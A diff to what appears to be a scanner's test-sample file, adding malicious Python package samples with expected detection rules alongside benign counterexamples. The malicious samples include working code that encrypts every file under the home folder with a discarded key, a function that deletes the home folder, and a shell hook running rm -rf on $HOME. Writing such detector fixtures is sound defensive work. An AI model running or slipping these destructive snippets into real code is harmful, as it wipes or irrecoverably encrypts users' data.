@@ -1,8 +1,20 @@
 import type { Samples } from '../contract.ts';
-import { at, HOOK_LINE, hide, hooked, imported, installed, quiet } from '../samples-kit.ts';
+import { at, HOOK_LINE, hide, hooked, imported, installed, quiet, wheel } from '../samples-kit.ts';
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: files that are encrypted where they lie',
+      files: wheel(
+        "import os\nfrom cryptography.fernet import Fernet\nkey = Fernet(Fernet.generate_key())\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        path = os.path.join(at, name)\n        text = open(path, 'rb').read()\n        open(path, 'wb').write(key.encrypt(text))\n",
+      ),
+      expected: [{ rule: 'overwrite', file: 'own/__init__.py', line: 8, severity: 'high' }],
+    },
+    {
+      name: 'Python: a home folder that a function deletes',
+      files: wheel("import os, shutil\ndef clean():\n    shutil.rmtree(os.path.expanduser('~'))\n"),
+      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'medium' }],
+    },
     {
       name: 'the home folder from the shell',
       files: hooked('rm -rf "$HOME"/*'),
@@ -41,6 +53,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a list of files that a function writes',
+      wheel(
+        "import os\ndef index(folder):\n    with open('index.txt', 'w') as out:\n        for name in os.listdir(folder):\n            out.write(name)\n",
+      ),
+    ),
     quiet('its own build folder', hooked('rm -rf ./dist build/*')),
     quiet(
       'a temporary folder',
